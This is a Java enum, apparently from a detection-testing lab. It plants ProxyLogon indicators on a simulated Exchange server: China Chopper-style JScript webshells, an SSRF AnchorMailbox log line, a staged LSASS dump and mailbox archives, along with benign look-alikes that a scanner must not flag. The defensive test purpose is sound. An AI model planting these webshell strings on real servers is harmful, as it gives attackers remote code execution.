package io.antidote.lab.exchange;

import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.stream.Collectors;

/**
 * Traces an attacker left before the run, each planted on a fresh server: files (webshells, dumps,
 * archives), log lines per CVE in the folders Microsoft's scripts read, the UM error event, and
 * look-alike lines that a correct scan must not flag.
 */
public enum Compromise {
    /** A China Chopper in aspnet_client\system_web and a CVE-2021-27065 OAB-config shell in owa\auth. */
    WEBSHELL("webshell") {
        @Override
        void plant(ExchangeServer server) {
            LabFileSystem files = server.files();
            String exchangePath = ExchangeServer.INSTALL_PATH;
            files.writeFile("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\zxvt0lpt.aspx",
                    "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"Ananas\"],\"unsafe\");}</script>",
                    DROPPED);
            // What CVE-2021-27065 leaves: the OAB virtual directory's settings dumped to a file,
            // the ExternalUrl carrying the shell.
            files.writeFile(exchangePath + "FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx",
                    "Name                            : OAB (Default Web Site)\r\n"
                            + "PollInterval                    : 480\r\n"
                            + "OfflineAddressBooks             :\r\n"
                            + "RequireSSL                      : True\r\n"
                            + "BasicAuthentication             : False\r\n"
                            + "WindowsAuthentication           : True\r\n"
                            + "OAuthAuthentication             : False\r\n"
                            + "InternalUrl                     : https://mail.contoso.local/OAB\r\n"
                            + "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"unsafe\"],\"unsafe\");}</script>\r\n",
                    DROPPED.plusMinutes(2));
        }
    },
    /** A credential dump of LSASS staged in C:\root for exfiltration. */
    LSASS_DUMP("lsass-dump") {
        @Override
        void plant(ExchangeServer server) {
            server.files().writeFile("C:\\root\\lsass.dmp", "MDMP\u0093\u00a7\0\0\u000f\0\0\0 lsass minidump",
                    DROPPED.plusMinutes(9));
        }
    },
    /** Mailbox data staged for theft: archives in C:\ProgramData and %WINDIR%\Temp. */
    STAGED_ARCHIVE("staged-archive") {
        @Override
        void plant(ExchangeServer server) {
            server.files().writeFile("C:\\ProgramData\\VSPerfMon\\mail.7z", "7z\u00bc\u00af\u0027\u001c mailbox export",
                    DROPPED.plusMinutes(31));
            server.files().writeFile("C:\\Windows\\Temp\\out.zip", "PK\u0003\u0004 pst", DROPPED.plusMinutes(33));
        }
    },
    /** CVE-2021-26855: an HttpProxy log line whose AnchorMailbox is ServerInfo~a]@host/path (SSRF). */
    LOG_26855("log-26855") {
        @Override
        void plant(ExchangeServer server) {
            appendHttpProxy(server, "Ecp", "ServerInfo~a]@lab-ex01.contoso.local:444/ecp/proxyLogon.ecp#~1941962753",
                    "/ecp/y.js", DROPPED);
        }
    },
    /** CVE-2021-26857: the Unified Messaging error event with System.InvalidCastException. */
    LOG_26857("log-26857") {
        @Override
        void plant(ExchangeServer server) {
            server.logEvent(new EventLogEntry("Application", "MSExchange Unified Messaging", 1148, "Error",
                    DROPPED.plusSeconds(40), "An unhandled exception occurred in a UM worker process: "
                            + "System.InvalidCastException: Unable to cast object of type "
                            + "'System.Collections.Generic.SortedSet`1' to type 'Microsoft.Exchange.UM.UMCore.CallIdInfo'."));
        }
    },
    /** CVE-2021-26858: the OAB generator removing a "temporary file" it wrote outside the OAB folder. */
    LOG_26858("log-26858") {
        @Override
        void plant(ExchangeServer server) {
            append(server, ExchangeServer.INSTALL_PATH + "Logging\\OABGeneratorLog\\OABGenerator20210303-1.LOG",
                    DROPPED.plusMinutes(1), "2021-03-03T04:13:41.072Z,WARNING,Download failed and temporary file "
                            + "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\zxvt0lpt.aspx' needs to be removed.");
        }
    },
    /** CVE-2021-27065: a Set-OabVirtualDirectory whose ExternalUrl holds a script, in the ECP server log. */
    LOG_27065("log-27065") {
        @Override
        void plant(ExchangeServer server) {
            append(server, ExchangeServer.INSTALL_PATH + "Logging\\ECP\\Server\\ECPServer20210303-1.LOG",
                    DROPPED.plusMinutes(2), "2021-03-03T04:14:22.513Z,LAB-EX01,ECP.Request,S:TIME=544;"
                            + "S:SID=a3b4;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\" "
                            + "runat=\"server\">function Page_Load(){eval(Request[\"unsafe\"],\"unsafe\");}</script>''.Identity=''a]OAB (Default Web Site)''");
        }
    },
    /**
     * Lines that look like the indicators and must not be flagged: Autodiscover and localhost
     * ServerInfo anchors, an OAB temp file inside the OAB folder, a Set-OabVirtualDirectory
     * without a script, and a UM error that is not an InvalidCastException.
     */
    LOOKALIKE_LOGS("lookalike-logs") {
        @Override
        void plant(ExchangeServer server) {
            appendHttpProxy(server, "Autodiscover", "ServerInfo~lab-ex01.contoso.local/autodiscover/autodiscover.xml",
                    "/autodiscover/autodiscover.xml", DROPPED.minusDays(1));
            appendHttpProxy(server, "Owa", "ServerInfo~localhost/owa/", "/owa/", DROPPED.minusDays(1));
            append(server, ExchangeServer.INSTALL_PATH + "Logging\\OABGeneratorLog\\OABGenerator20210302-1.LOG",
                    DROPPED.minusDays(1), "2021-03-02T02:00:03.111Z,WARNING,Download failed and temporary file '"
                            + ExchangeServer.INSTALL_PATH + "ClientAccess\\OAB\\Temp\\oab.tmp' needs to be removed.");
            append(server, ExchangeServer.INSTALL_PATH + "Logging\\ECP\\Server\\ECPServer20210302-1.LOG",
                    DROPPED.minusDays(1), "2021-03-02T09:41:07.000Z,LAB-EX01,ECP.Request,S:TIME=210;"
                            + "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''OAB (Default Web Site)''");
            server.logEvent(new EventLogEntry("Application", "MSExchange Unified Messaging", 1001, "Error",
                    DROPPED.minusDays(1), "The Unified Messaging service could not reach the IP gateway: "
                            + "System.TimeoutException: The operation has timed out."));
        }
    };

    private static final String HTTP_PROXY_HEADER = "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,"
            + "RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,"
            + "AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,"
            + "BackEndStatus,ErrorCode,Method";

    static void appendHttpProxy(ExchangeServer server, String protocol, String anchorMailbox, String urlStem,
                                LocalDateTime at) {
        String path = ExchangeServer.INSTALL_PATH + "Logging\\HttpProxy\\" + protocol + "\\HttpProxy_2021030304-1.LOG";
        if (!server.files().exists(path)) {
            server.files().writeFile(path, HTTP_PROXY_HEADER + "\r\n", at);
        }
        append(server, path, at, at + "Z,6f1c9c1e-2a57-4d6a-9d3e-0b5f1b2c3d4e,15,1,2176,2,,"
                + protocol + ",mail.contoso.com," + urlStem + ",,,false,,," + anchorMailbox
                + ",ExchangeServicesClient/0.0.0.0,86.105.18.116,LAB-EX01,200,200,,GET");
    }

    static void append(ExchangeServer server, String path, LocalDateTime at, String line) {
        String before = server.files().get(path).map(LabFileSystem.Entry::content).orElse("");
        server.files().writeFile(path, before + line + "\r\n", at);
    }

    /** When the lab's attacker was there: the week ProxyLogon was exploited at scale. */
    static final LocalDateTime DROPPED = LocalDateTime.of(2021, 3, 3, 4, 12, 37);

    private final String specName;

    Compromise(String specName) {
        this.specName = specName;
    }

    public String specName() {
        return specName;
    }

    abstract void plant(ExchangeServer server);

    public static Compromise fromName(String name) {
        return Arrays.stream(values()).filter(c -> c.specName.equals(name)).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("unknown compromise indicator; known: "
                        + Arrays.stream(values()).map(Compromise::specName).collect(Collectors.joining(", "))));
    }
}
